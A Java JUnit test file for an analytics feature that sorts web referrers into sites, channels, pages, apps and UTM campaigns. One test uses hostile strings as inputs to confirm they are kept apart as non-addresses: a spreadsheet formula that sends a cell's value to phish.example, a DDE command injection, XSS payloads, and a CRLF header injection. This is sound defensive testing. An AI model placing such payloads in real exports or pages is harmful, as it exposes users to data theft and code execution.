package app.marquee.analytics.group;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

import java.util.List;
import java.util.Set;
import java.util.stream.Stream;

/** Referrers come to the site they belong to, and what is no address stays apart. */
class ReferrerGroupingTest {
    private static final KnownSites SITES = KnownSites.bundled();

    private static List<GroupStep> steps(@Nullable String text, ReferrerRule... rules) {
        return steps(ReferrerDimension.SITES, text, rules);
    }

    private static List<GroupStep> steps(
            ReferrerDimension dimension, @Nullable String text, ReferrerRule... rules) {
        return grouping(dimension, rules).steps(text);
    }

    private static Grouping grouping(ReferrerDimension dimension, ReferrerRule... rules) {
        return new ReferrerGrouping(dimension, SITES, Set.of("api.aurora.example"), List.of(rules));
    }

    @ParameterizedTest
    @CsvSource({
        "https://www.google.com/, SITE, Google",
        "https://www.google.com.br/search?q=a, SITE, Google",
        "HTTPS://EscolaAurora.example/, SITE, escolaaurora.example",
        "https://escolaaurora.example:8443/membros, SITE, escolaaurora.example",
        "https://ana:secret@pay.loja.example./checkout, SITE, loja.example",
        "http://lm.facebook.com/, SITE, Facebook",
        "android-app://com.instagram.android/, SITE, Instagram",
        "ios-app://389801252/instagram/media, SITE, Instagram",
        "https://l.instagram.com/, SITE, Instagram",
        "https://t.co/x, SITE, X",
        "m.youtube.com/watch, SITE, YouTube",
        "com.exemplo.leitor, APP, com.exemplo.leitor",
        "android-app://com.exemplo.leitor/, APP, com.exemplo.leitor",
        "http://localhost:3000/, SITE, localhost",
        "http://192.0.2.17/painel, SITE, 192.0.2.17",
        "http://[2001:db8::7]/, SITE, [2001:db8::7]",
        "https://www.city.kobe.jp/, SITE, city.kobe.jp",
        "https://a.b.other.kobe.jp/, SITE, b.other.kobe.jp",
        "https://shop.foo.co.uk/, SITE, foo.co.uk",
        "https://café-com-números.example/início, SITE, xn--caf-com-nmeros-dkb2z.example",
        "https://com.br/, SITE, com.br",
    })
    void addresses(String text, GroupKind kind, String site) {
        assertThat(steps(text))
                .containsExactly(new GroupStep(kind, site), new GroupStep(GroupKind.ADDRESS, text));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "about:blank",
                "file:///C:/Users/ana/Desktop/curso.html",
                "=HYPERLINK(\"https://phish.example/?d=\"&A1,\"clique aqui\")",
                "+cmd|' /C calc'!A0",
                "<script>alert(document.domain)</script>",
                "javascript:alert(1)",
                "%00%0d%0aSet-Cookie:%20a=b",
                "https:///",
                "https://a b/",
                "android-app:///",
                "1.2.3"
            })
    void whatIsNoAddressIsKeptAsItIs(String text) {
        assertThat(steps(text))
                .containsExactly(
                        GroupStep.only(GroupKind.OTHER), new GroupStep(GroupKind.ADDRESS, text));
    }

    @Test
    void directAndUnknownAreNotTheSame() {
        assertThat(steps("")).containsExactly(GroupStep.only(GroupKind.DIRECT));
        assertThat(steps("(direct)")).containsExactly(GroupStep.only(GroupKind.DIRECT));
        assertThat(steps(null)).containsExactly(GroupStep.only(GroupKind.UNKNOWN));
        assertThat(steps("(not set)")).containsExactly(GroupStep.only(GroupKind.UNKNOWN));
    }

    @Test
    void theFirstRuleThatMatchesNamesTheAddress() {
        ReferrerRule mail = new ReferrerRule("UTM_medium=email*campaign", "Newsletter");
        ReferrerRule blog = new ReferrerRule("blog.", "Blog");
        String address = "https://blog.a.example/?utm_medium=email&utm_campaign=x";
        assertThat(steps(address, mail, blog).getFirst())
                .isEqualTo(new GroupStep(GroupKind.NAMED, "Newsletter"));
        assertThat(steps(address, blog, mail).getFirst().name()).isEqualTo("Blog");
        assertThat(
                        steps("https://blog.a.example/?utm_campaign=x&utm_medium=email", mail, blog)
                                .getFirst()
                                .name())
                .isEqualTo("Blog");
        assertThat(steps("", new ReferrerRule("*", "All")))
                .containsExactly(GroupStep.only(GroupKind.DIRECT));
    }

    @Test
    void aRuleThatWouldTakeEverythingIsNone() {
        assertThat(new ReferrerRule(" * ", "All").isComplete()).isFalse();
        assertThat(new ReferrerRule("a", " ").isComplete()).isFalse();
        assertThat(new ReferrerRule("a", "A").isComplete()).isTrue();
        assertThat(steps("https://a.example/", new ReferrerRule("*", "All")).getFirst().kind())
                .isEqualTo(GroupKind.SITE);
    }

    @ParameterizedTest
    @CsvSource({
        "https://www.google.com.br/search?q=a, search, Google",
        "https://mail.google.com/mail/u/0, email, Gmail",
        "https://docs.google.com/d/1, other, Google Docs",
        "https://google.example/, other, google.example",
        "https://notgoogle.com/, other, notgoogle.com",
        "https://br.pinterest.com/, social, Pinterest",
        "https://old.reddit.com/r/brasil/, social, Reddit",
        "https://web.whatsapp.com/, messaging, WhatsApp",
        "android-app://com.google.android.gm/, email, Gmail",
        "com.google.android.youtube, social, YouTube",
        "android-app://com.exemplo.leitor/, other, com.exemplo.leitor",
        "https://www.aurora.example/aula, own, aurora.example",
        "https://aurora.example/?utm_medium=Email, email, aurora.example",
        "https://aurora.example/?utm_source=e-mail, email, aurora.example",
        "https://aurora.example/?utm_medium=CPC&utm_source=email, paid, aurora.example",
        "https://aurora.example/?utm_medium=paid_social, paid, aurora.example",
        "https://www.facebook.com/?gclid=1, paid, Facebook",
        "https://www.facebook.com/?fbclid=1, social, Facebook",
        "https://www.facebook.com/?gclid=, social, Facebook",
        "https://parceiro.example/?utm_medium=stories, other, parceiro.example",
        "http://192.0.2.17/painel, other, 192.0.2.17",
        "https://chatgpt.com/, assistants, ChatGPT",
        "https://chat.deepseek.com/a/1, assistants, DeepSeek",
        "https://gemini.google.com/app, assistants, Gemini",
        "https://www.meta.ai/, assistants, Meta AI",
        "https://chat.mistral.ai/chat, assistants, Mistral",
        "https://metamistral.ai/, other, metamistral.ai",
        "android-app://com.openai.chatgpt/, assistants, ChatGPT",
        "ai.perplexity.app.android, assistants, Perplexity",
        "https://aurora.example/aula?utm_source=chatgpt.com, assistants, aurora.example",
        "https://aurora.example/?utm_source=www.perplexity.ai, assistants, aurora.example",
        "https://parceiro.example/?utm_source=Copilot, assistants, parceiro.example",
        "https://parceiro.example/?utm_source=mychatgpt.com, other, parceiro.example",
        "https://aurora.example/?utm_source=chatgpt.com&utm_medium=cpc, paid, aurora.example",
        "https://www.google.com/search?q=ai+answers, search, Google",
        "https://www.bing.com/chat, search, Bing",
    })
    void channelsHoldTheirSites(String text, String channel, String site) {
        assertThat(steps(ReferrerDimension.CHANNELS, text))
                .startsWith(new GroupStep(GroupKind.CHANNEL, channel))
                .endsWith(new GroupStep(GroupKind.ADDRESS, text))
                .hasSize(3)
                .element(1)
                .extracting(GroupStep::name)
                .isEqualTo(site);
    }

    @Test
    void whatIsInNoChannelStaysApart() {
        assertThat(steps(ReferrerDimension.CHANNELS, ""))
                .containsExactly(GroupStep.only(GroupKind.DIRECT));
        assertThat(steps(ReferrerDimension.CHANNELS, null))
                .containsExactly(GroupStep.only(GroupKind.UNKNOWN));
        assertThat(steps(ReferrerDimension.CHANNELS, "about:blank"))
                .containsExactly(
                        GroupStep.only(GroupKind.OTHER),
                        new GroupStep(GroupKind.ADDRESS, "about:blank"));
    }

    @Test
    void theUsersChannelWins() {
        ReferrerRule own = new ReferrerRule("loja.example", "Store", Channel.OWN);
        String paid = "https://pay.loja.example/?utm_medium=cpc";
        assertThat(steps(ReferrerDimension.CHANNELS, paid, own))
                .startsWith(
                        new GroupStep(GroupKind.CHANNEL, "own"),
                        new GroupStep(GroupKind.NAMED, "Store"));
        assertThat(
                        steps(
                                ReferrerDimension.CHANNELS,
                                paid,
                                new ReferrerRule("loja.example", "Store")))
                .as("a rule without a channel only names")
                .startsWith(
                        new GroupStep(GroupKind.CHANNEL, "paid"),
                        new GroupStep(GroupKind.NAMED, "Store"));
    }

    @ParameterizedTest
    @CsvSource({
        "https://www.youtube.com/watch?v=AbC&fbclid=1, youtube.com/watch?v=AbC",
        "m.youtube.com/watch?v=AbC#t=1, youtube.com/watch?v=AbC",
        "HTTP://WWW.Escola.Example/Aula/, escola.example/Aula",
        "https://escola.example:443, escola.example",
        "https://escola.example:8443/membros/, escola.example:8443/membros",
        "https://escola.example/?utm_source=a&utm_medium=b, escola.example",
        "https://en.m.wikipedia.org/wiki/Film, en.wikipedia.org/wiki/Film",
        "https://amp.jornal.example/x, jornal.example/x",
        "https://l.facebook.com/l.php?u=https%3A%2F%2Fa.example&h=1, facebook.com",
        "http://lm.facebook.com/, facebook.com",
        "https://l.outra.example/x, l.outra.example/x",
        "https://m.me/aurora, m.me/aurora",
        "https://xn--caf-dma.example/Início, café.example/Início",
        "http://[2001:db8::7]:3000/a/, [2001:db8::7]:3000/a",
        "http://192.0.2.17/painel, 192.0.2.17/painel",
    })
    void addressesOfOnePageAreOnePage(String text, String page) {
        assertThat(steps(ReferrerDimension.PAGES, text))
                .containsExactly(
                        new GroupStep(GroupKind.PAGE, page),
                        new GroupStep(GroupKind.ADDRESS, text));
    }

    @Test
    void aRuleNamesItsPagesWhichStayApartInside() {
        String text = "https://www.loja.example/curso/?fbclid=1";
        assertThat(steps(ReferrerDimension.PAGES, text, new ReferrerRule("loja.example", "Store")))
                .containsExactly(
                        new GroupStep(GroupKind.NAMED, "Store"),
                        new GroupStep(GroupKind.PAGE, "loja.example/curso"),
                        new GroupStep(GroupKind.ADDRESS, text));
    }

    @ParameterizedTest
    @CsvSource({
        "'', true, false, false, false",
        "https://a.example/, true, true, true, false",
        "https://a.example/?utm_campaign=x, true, true, true, true",
        "https://a.example/?utm_source=news, true, true, true, false",
        "about:blank, false, false, false, false",
        "unknown, false, false, false, false",
    })
    void onlyWhatAViewIsAboutIsCounted(
            String text, boolean channel, boolean site, boolean page, boolean campaign) {
        assertThat(counts(ReferrerDimension.CHANNELS, text)).isEqualTo(channel);
        assertThat(counts(ReferrerDimension.SITES, text)).isEqualTo(site);
        assertThat(counts(ReferrerDimension.PAGES, text)).isEqualTo(page);
        assertThat(counts(ReferrerDimension.CAMPAIGNS, text)).isEqualTo(campaign);
    }

    private static boolean counts(ReferrerDimension by, String text) {
        Grouping grouping = grouping(by);
        return grouping.counts(grouping.steps(text).getFirst());
    }

    @Test
    void onlyAmongCampaignsIsThereARest() {
        Stream.of("https://a.example/", "unknown", "direct", "about:blank")
                .forEach(
                        text -> {
                            assertThat(isRest(ReferrerDimension.CAMPAIGNS, text)).isTrue();
                            assertThat(isRest(ReferrerDimension.CHANNELS, text)).isFalse();
                        });
        assertThat(isRest(ReferrerDimension.CAMPAIGNS, "https://a.example/?utm_campaign=x"))
                .isFalse();
    }

    private static boolean isRest(ReferrerDimension by, String text) {
        Grouping grouping = grouping(by);
        return grouping.isRest(grouping.steps(text).getFirst());
    }

    @Test
    void appsStandBesidePages() {
        assertThat(steps(ReferrerDimension.PAGES, "android-app://com.instagram.android/"))
                .startsWith(new GroupStep(GroupKind.APP, "Instagram"));
        assertThat(steps(ReferrerDimension.PAGES, "com.exemplo.leitor"))
                .startsWith(new GroupStep(GroupKind.APP, "com.exemplo.leitor"));
    }

    @Test
    void spellingsOfACampaignAreOne() {
        List<String> all =
                Stream.of("Black%20Friday", "black-friday", "BLACK_FRIDAY", "blackfriday")
                        .map(name -> "https://a.example/?utm_campaign=" + name)
                        .toList();
        Grouping among = grouping(ReferrerDimension.CAMPAIGNS).among(all.stream());
        assertThat(all.stream().map(text -> among.steps(text).getFirst().name()))
                .containsExactly("BLACK_FRIDAY", "BLACK_FRIDAY", "BLACK_FRIDAY", "blackfriday");
        assertThat(among.steps(all.getFirst()).getLast().name())
                .as("the address stays as it is")
                .isEqualTo(all.getFirst());
    }

    @ParameterizedTest
    @CsvSource({
        "https://a.example/?utm_campaign=Black%20Friday&utm_source=news&utm_medium=email,"
                + " CAMPAIGN, Black Friday, SOURCE, news / email",
        "https://a.example/?utm_campaign=x, CAMPAIGN, x, SOURCE, ''",
        "https://a.example/?utm_source=news, CAMPAIGN, '', SOURCE, news",
        "https://a.example/, UNTAGGED, '', SITE, a.example",
        "com.instagram.android, UNTAGGED, '', SITE, Instagram",
    })
    void campaignsHoldTheirSources(
            String text, GroupKind kind, String name, GroupKind inside, String source) {
        assertThat(steps(ReferrerDimension.CAMPAIGNS, text))
                .containsExactly(
                        new GroupStep(kind, name),
                        new GroupStep(inside, source),
                        new GroupStep(GroupKind.ADDRESS, text));
    }

    @Test
    void theShippedListIsWhole() {
        assertThat(SITES.size()).isGreaterThanOrEqualTo(200);
        assertThatThrownBy(() -> KnownSites.read(List.of("a.example, A")))
                .hasMessageContaining("a.example, A");
        assertThatThrownBy(() -> KnownSites.read(List.of("a.example, A, banana")))
                .hasMessageContaining("banana");
        assertThatThrownBy(
                        () -> KnownSites.read(List.of("a.example, A, other", "a.example, B, paid")))
                .hasMessageContaining("B, paid");
        assertThat(KnownSites.read(List.of("# comment", "", "a.example, A, other"))).hasSize(1);
    }

    @Test
    void campaignsAreReadFromTheQuery() {
        UtmParts parts =
                UtmParts.of(
                        "https://a.example/?x=1&UTM_Source=News%20letter&utm_medium=e+mail"
                                + "&utm_term=%zz&utm_content=#utm_campaign=no");
        assertThat(parts.of(UtmParts.Part.SOURCE)).isEqualTo("News letter");
        assertThat(parts.of(UtmParts.Part.MEDIUM)).isEqualTo("e mail");
        assertThat(parts.of(UtmParts.Part.TERM)).isEqualTo("%zz");
        assertThat(parts.of(UtmParts.Part.CAMPAIGN)).isNull();
        assertThat(parts.of(UtmParts.Part.CONTENT)).isNull();
        assertThat(UtmParts.of("https://a.example/").isEmpty()).isTrue();
    }
}
